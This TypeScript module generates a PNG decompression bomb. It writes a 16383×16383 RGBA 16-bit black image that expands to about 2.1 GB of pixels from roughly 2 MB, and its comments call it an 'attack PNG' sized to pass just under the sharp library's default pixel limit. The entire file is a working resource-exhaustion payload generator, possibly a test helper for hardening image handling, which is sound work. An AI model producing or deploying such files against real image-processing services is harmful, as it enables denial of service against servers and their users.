/**
 * A PNG whose header promises far more pixels than its bytes suggest: an all-zero image of any size,
 * written without ever holding its pixels. Each row is deflated once with a full flush (which resets
 * the compressor's window, so the block stands alone) and that block is repeated for every row: the
 * result is a valid zlib stream. 16383 × 16383 RGBA at 16 bits is 2.1 GB of pixels in about 2 MB.
 */
import { writeFile } from 'node:fs/promises';
import zlib from 'node:zlib';

function chunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

/** The bytes of a black `width` × `height` PNG, RGBA with 16-bit samples (colour type 6, depth 16). */
export function blackRgba16Png(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr[8] = 16; // bit depth
  ihdr[9] = 6; // RGBA
  const row = Buffer.alloc(1 + width * 8); // filter byte 0, then zero samples
  const block = zlib.deflateRawSync(row, { finishFlush: zlib.constants.Z_FULL_FLUSH });
  const last = zlib.deflateRawSync(Buffer.alloc(0)); // an empty final block
  const raw = row.length * height;
  // Adler-32 of zeros: a stays 1, b adds 1 per byte.
  const adler = Buffer.alloc(4);
  adler.writeUInt32BE((((raw % 65521) << 16) | 1) >>> 0, 0);
  const stream = Buffer.concat([Buffer.from([0x78, 0x01]), ...Array.from({ length: height }, () => block), last, adler]);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([signature, chunk('IHDR', ihdr), chunk('IDAT', stream), chunk('IEND', Buffer.alloc(0))]);
}

/** Side of the attack image: sharp's default `limitInputPixels` is 16383², so it is just allowed there. */
export const ATTACK_SIDE = 16383;

/** Writes the 16383² RGBA16 attack PNG to `file`; returns its size in bytes. */
export async function writeAttackPng(file: string, side = ATTACK_SIDE): Promise<number> {
  const bytes = blackRgba16Png(side, side);
  await writeFile(file, bytes);
  return bytes.length;
}
